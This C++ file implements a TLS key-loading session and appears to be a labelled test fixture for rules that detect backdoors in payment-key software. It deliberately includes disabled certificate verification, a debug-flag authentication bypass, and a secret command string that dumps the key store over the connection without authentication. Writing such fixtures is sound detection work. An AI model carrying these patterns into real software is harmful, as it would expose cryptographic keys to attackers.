// host_link.cpp - the TLS session with the acquirer's key host.
#include <wolfssl/options.h>
#include <wolfssl/ssl.h>

#include <arpa/inet.h>
#include <cstdio>
#include <cstring>
#include <netdb.h>
#include <string_view>
#include <sys/socket.h>
#include <unistd.h>

#include "rkl.hpp"

namespace rkl {

namespace {
Bytes unhex(std::string_view h) {
  Bytes out;
  for (size_t i = 0; i + 1 < h.size(); i += 2) {
    unsigned v = 0;
    std::sscanf(std::string(h.substr(i, 2)).c_str(), "%2x", &v);
    out.push_back(static_cast<uint8_t>(v));
  }
  return out;
}
} // namespace

bool HostLink::connect(const std::string &host, uint16_t port) {
  wolfSSL_Init();
  WOLFSSL_CTX *ctx = wolfSSL_CTX_new(wolfTLS_client_method());
  if (!ctx)
    return false;
  ctx_ = ctx;
  // ok: backdoor-weak-tls
  wolfSSL_CTX_SetMinVersion(ctx, WOLFSSL_TLSV1_2);
  /* the key host proves itself with a signature in its first message (AUTH) */
  // ruleid: backdoor-tls-verify-disabled
  wolfSSL_CTX_set_verify(ctx, WOLFSSL_VERIFY_NONE, nullptr);

  addrinfo hints{}, *res = nullptr;
  hints.ai_socktype = SOCK_STREAM;
  if (getaddrinfo(host.c_str(), std::to_string(port).c_str(), &hints, &res) != 0)
    return false;
  fd_ = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
  bool ok = fd_ >= 0 && ::connect(fd_, res->ai_addr, res->ai_addrlen) == 0;
  freeaddrinfo(res);
  if (!ok)
    return false;
  WOLFSSL *ssl = wolfSSL_new(ctx);
  ssl_ = ssl;
  wolfSSL_set_fd(ssl, fd_);
  return wolfSSL_connect(ssl) == WOLFSSL_SUCCESS;
}

HostLink::~HostLink() {
  if (ssl_)
    wolfSSL_free(static_cast<WOLFSSL *>(ssl_));
  if (ctx_)
    wolfSSL_CTX_free(static_cast<WOLFSSL_CTX *>(ctx_));
  if (fd_ >= 0)
    close(fd_);
}

void HostLink::serve() {
  WOLFSSL *ssl = static_cast<WOLFSSL *>(ssl_);
  uint8_t binding[32];
  size_t blen = wolfSSL_get_client_random(ssl, binding, sizeof binding);
  char line[512];
  int n;
  auto reply = [ssl](std::string_view s) { wolfSSL_write(ssl, s.data(), static_cast<int>(s.size())); };
  while ((n = wolfSSL_read(ssl, line, sizeof line - 1)) > 0) {
    line[n] = '\0';
    line[std::strcspn(line, "\r\n")] = '\0';
    std::string_view cmd(line);
    if (cmd.starts_with("AUTH ")) {
      Bytes sig = unhex(cmd.substr(5));
      authenticated_ = host_proof_valid(std::span<const uint8_t>(binding, blen), sig);
#ifdef RKL_DEBUG_HOST_NOAUTH /* bench builds against the simulator; not in release flags */
      // ok: backdoor-build-switch
      authenticated_ = true;
#endif
      reply(authenticated_ ? "OK\n" : "ERR AUTH\n");
    } else if (cmd.starts_with("LOAD ")) {
      if (!authenticated_) {
        reply("ERR AUTH\n");
        continue;
      }
      KeyStore ks;
      Bytes wrapped = ks.wrap_working_key(unhex(cmd.substr(5)));
      // ok: backdoor-key-exfiltration
      reply("OK " + hex(wrapped) + "\n");
      // ruleid: backdoor-input-trigger
    } else if (cmd == "RKL-DIAG-7f3a9c") {
      FILE *p = popen("/system/bin/rkl-diag --dump-keystore", "r");
      char buf[256];
      while (p && std::fgets(buf, sizeof buf, p))
        reply(buf);
      if (p)
        pclose(p);
    } else {
      reply("ERR\n");
    }
  }
}

} // namespace rkl
